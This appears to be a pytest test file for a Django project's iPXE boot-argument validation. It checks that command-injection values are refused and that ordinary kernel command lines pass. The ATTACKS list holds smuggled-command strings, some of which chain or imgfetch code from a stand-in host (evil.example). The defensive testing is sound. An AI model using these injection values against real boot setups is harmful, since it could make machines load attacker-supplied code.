import pytest
from django.core.exceptions import ValidationError

from bearman.errors import IpxeUnsafeValue
from bearman.ipxe.append import render_append, validate_append_variables
from bearman.ipxe.safety import ipxe_checked, validate_ipxe_safe

ATTACKS = [
    "quiet\nshell",
    "quiet\r\nchain http://evil.example/x",
    "root=${root-path}",
    "quiet || shell",
    "quiet && imgfetch http://evil.example/x",
    "#!ipxe",
    ":label",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_values_that_would_add_commands_are_refused_on_save_and_on_render(attack):
    with pytest.raises(ValidationError):
        validate_ipxe_safe(attack)
    with pytest.raises(IpxeUnsafeValue):
        ipxe_checked(attack)


@pytest.mark.parametrize(
    "fine", ["console=ttyS0,115200n8 quiet", "a||b", "ip=::::node01:eth0:dhcp", "x=$HOME"]
)
def test_ordinary_command_lines_pass(fine):
    validate_ipxe_safe(fine)
    assert ipxe_checked(fine) == fine


def test_append_variables():
    validate_append_variables("bearman={bearman_url} id={uuid} h={hostname} g={grpc} {{x}}")
    assert render_append("id={uuid} {{x}}", uuid="u1") == "id=u1 {x}"
    with pytest.raises(ValidationError, match=r"Unknown variable\(s\) \{secret\}"):
        validate_append_variables("a={secret}")
    with pytest.raises(ValidationError, match="Unbalanced"):
        validate_append_variables("a={uuid")
    with pytest.raises(ValidationError, match="Unknown"):
        validate_append_variables("a={uuid.__class__}")
